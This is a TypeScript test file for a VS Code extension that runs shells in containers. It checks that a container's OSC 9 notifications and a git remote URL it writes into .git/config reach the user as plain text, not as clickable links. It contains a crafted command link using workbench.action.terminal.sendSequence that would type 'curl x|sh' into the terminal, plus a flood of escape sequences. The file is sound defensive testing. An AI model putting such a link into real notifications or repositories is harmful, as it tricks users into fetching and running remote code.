/**
 * Issue 25, attack 2, from a real container: what a container writes reaches the user as text,
 * never as a clickable `command:` link (docs/decisions/0040-outside-text-is-plain-text.md).
 *
 * - A process in a Toolbox shell prints an OSC 9 notification whose text is a VS Code command link
 *   (`workbench.action.terminal.sendSequence` typing `curl x|sh` into the active terminal). It goes
 *   through the real terminal (ToolboxShellPty: recogniser, state tracker) into the real nudge
 *   (ui/agents/agentNudge.ts), on the stand-in vscode module: the notification it shows holds the words
 *   and no link. A thousand alternating OSC 133;C and OSC 9 then give no second notification.
 * - The container writes a remote whose URL is such a link into the repository it has mounted;
 *   New Agent Worktree's fetch on the host fails and git's `fatal:` line carries the URL into the
 *   error: the notification showEngineError shows holds no link.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { objectNames } from '../../extension/src/contract/objects';
import type { AgentStatus } from '../../extension/src/ui/agents/agentState';
import { testBackend, type TestBackend } from '../support/backend';
import { docker, removeNamespaceObjects } from '../support/docker';
import { exitWhenDone } from '../support/exitGuard';
import { ensureTestRuntimeImage } from '../support/image';
import { screen } from '../support/screen';
import { standInSettings } from '../support/settings';
import { installVscodeLite, silentLog, vscodeLite } from '../support/vscodeLite';

installVscodeLite();
exitWhenDone('outside-text.test');
/* eslint-disable @typescript-eslint/no-require-imports */
const { ToolboxShellPty } =
  require('../../extension/src/ui/shells/toolboxShellPty') as typeof import('../../extension/src/ui/shells/toolboxShellPty');
const { AgentNudge } = require('../../extension/src/ui/agents/agentNudge') as typeof import('../../extension/src/ui/agents/agentNudge');
const { showEngineError } =
  require('../../extension/src/ui/engines/showEngineError') as typeof import('../../extension/src/ui/engines/showEngineError');
/* eslint-enable @typescript-eslint/no-require-imports */

type Pty = InstanceType<typeof ToolboxShellPty>;

/** The payload of the issue: a link that types `curl x|sh` and Enter into the active terminal. */
const RUN_LINK = '[Run](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)';
/** VS Code's own rule for a link in a notification (parseLinkedText). */
const VSCODE_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/i;

/** What the stand-in VS Code was asked to show. */
const shown: { info: string[]; error: string[] } = { info: [], error: [] };
Object.assign(vscodeLite.window, {
  state: { focused: false },
  activeTerminal: undefined,
  onDidChangeActiveTextEditor: () => ({ dispose: () => undefined }),
  onDidChangeTextEditorSelection: () => ({ dispose: () => undefined }),
  onDidChangeActiveTerminal: () => ({ dispose: () => undefined }),
  onDidChangeWindowState: () => ({ dispose: () => undefined }),
  showInformationMessage: async (text: string) => void shown.info.push(text),
  showErrorMessage: async (text: string) => void shown.error.push(text),
});

async function until(what: string, test: () => boolean, timeoutMs = 30_000): Promise<void> {
  for (const end = Date.now() + timeoutMs; !test();) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

describe('text a container writes reaches the user as text (issue 25, attack 2; real engine)', () => {
  const names = objectNames(`tbxt${Math.random().toString(16).slice(2, 8)}`);
  let dir: string;
  let repo: string;
  let backend: TestBackend;
  let pty: Pty | undefined;
  const statuses: AgentStatus[] = [];

  before(async () => {
    const image = await ensureTestRuntimeImage();
    dir = mkdtempSync(join(tmpdir(), `${names.prefix}-text-`));
    const home = join(dir, 'home');
    mkdirSync(home);
    repo = join(dir, 'repo');
    mkdirSync(repo);
    // The image in ~/.toolbox.yaml: from the project file it would wait for the user's approval (docs/decisions/0041).
    writeFileSync(join(home, '.toolbox.yaml'), `image: ${image}\n`);
    writeFileSync(join(repo, '.toolbox.yaml'), 'peer_messaging: false\n');
    const git = (...args: string[]) =>
      execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.com', ...args], {
        cwd: repo,
        env: { ...process.env, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' },
        stdio: 'ignore',
      });
    git('init', '-q', '-b', 'main');
    git('add', '.');
    git('commit', '-q', '-m', 'initial');
    // The container's user may write the repository's config, as it may every file of its folder.
    chmodSync(join(repo, '.git', 'config'), 0o666);
    // Protected paths off (docs/decisions/0042): with them the container cannot write
    // .git/config at all (test/engine/protected-paths.test.ts); this proves the second line, what
    // a remote URL does in git's error text when it got there anyway (a user who turned them off,
    // a clone of a hostile repository).
    backend = testBackend(names, home, { pathExists: existsSync, settings: standInSettings({ protectedPaths: () => false }) });
  });

  after(async () => {
    pty?.close();
    backend?.dispose();
    await removeNamespaceObjects(docker(), names).catch(() => undefined);
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  it('an OSC 9 command link printed in the container becomes a nudge with the words and no link; a flood gives no second one', async () => {
    const prepared = await backend.prepareShell({ folder: repo, peer: false });
    const session = await prepared.open({ log: () => undefined, step: () => undefined }, new AbortController().signal);
    const terminal = new ToolboxShellPty({ container: session.name, start: (size) => session.start(size), log: silentLog as never });
    pty = terminal;
    terminal.onDidChangeAgent((s) => statuses.push(s));
    // The nudge as the extension makes it, fed by this terminal (ui/shells/shellLauncher.ts does this for each).
    const shells = {
      onDidChangeAgent: (listener: (a: unknown) => void) =>
        terminal.onDidChangeAgent((status) => listener({ key: 1, container: session.name, title: prepared.title, status })),
      lastInputAt: () => Number.NEGATIVE_INFINITY,
      focus: () => true,
    };
    const nudge = new AgentNudge(shells as never, silentLog as never);
    try {
      const out = screen(terminal);
      terminal.open({ columns: 120, rows: 30 });
      terminal.handleInput('echo "ready $((6*7))"\r');
      await out.waitFor(/ready 42/);

      // The payload is an argument of printf, so its % signs are no format.
      terminal.handleInput(`P='${RUN_LINK}'; printf '\\033]9;Build done. %s\\007' "$P"\r`);
      await until('the nudge', () => shown.info.length > 0);
      const text = shown.info[0]!;
      assert.equal(VSCODE_LINK.test(text), false, `no link in the notification: ${text}`);
      assert.ok(!text.includes(']('), text);
      assert.match(text, /^The shell in \S+ needs you: “Build done\. \[Run\] \(command:workbench\.action\.terminal\.sendSequence\?%7B/);
      // What the terminal said reached the state as it was: only the notification made it text.
      // (The shell's prompt mark follows at once and makes it idle: the image's shell integration.)
      assert.ok(
        statuses.some((st) => st.state === 'needsYou' && st.message === `Build done. ${RUN_LINK}`),
        'the state carried the words as printed',
      );

      // 1,000 times "working" then "needs you", as fast as the container can write them.
      const before = statuses.length;
      terminal.handleInput(
        `i=0; while [ $i -lt 1000 ]; do printf '\\033]133;C\\007\\033]9;%s %s\\007' "$P" $i; i=$((i+1)); done; echo "flood done"\r`,
      );
      await out.waitFor(/flood done/);
      await until('the last notification of the flood', () =>
        statuses.some((st) => st.state === 'needsYou' && st.message === `${RUN_LINK} 999`),
      );
      assert.ok(statuses.length - before >= 1000, `the state followed the flood (${statuses.length - before} changes)`);
      await new Promise((r) => setTimeout(r, 200));
      assert.equal(shown.info.length, 1, `one nudge in the interval, not ${shown.info.length}`);
    } finally {
      nudge.dispose();
    }
  });

  it('a remote URL the container writes comes back in git’s error as text, with no link', async () => {
    assert.ok(pty, 'the shell of the first test');
    const out = screen(pty);
    // Nothing listens on port 9 of the loopback: the host's fetch fails at once.
    const url = `http://127.0.0.1:9/${RUN_LINK}.git`;
    pty.handleInput(`printf '[remote "origin"]\\n\\turl = %s\\n' '${url}' >> .git/config; echo "remote written"\r`);
    await out.waitFor(/remote written/);
    const err = await backend
      .createAgentWorktree(
        { folder: repo, branch: 'agent/link', base: 'main', prompt: '' },
        { log: () => undefined, step: () => undefined },
        new AbortController().signal,
      )
      .then(
        () => assert.fail('the fetch should fail'),
        (e: Error) => e,
      );
    assert.equal((err as { code?: string }).code, 'fetch-failed', err.message);
    assert.ok(VSCODE_LINK.test(err.message), `git's fatal line carries the link to the UI: ${err.message}`);
    await showEngineError(err, silentLog as never);
    const text = shown.error.at(-1)!;
    assert.equal(VSCODE_LINK.test(text), false, `no link in the error notification: ${text}`);
    assert.ok(!text.includes(']('), text);
    assert.match(text, /^Could not fetch main from origin \(.*127\.0\.0\.1.*\[Run\] \(command:/);
  });
});
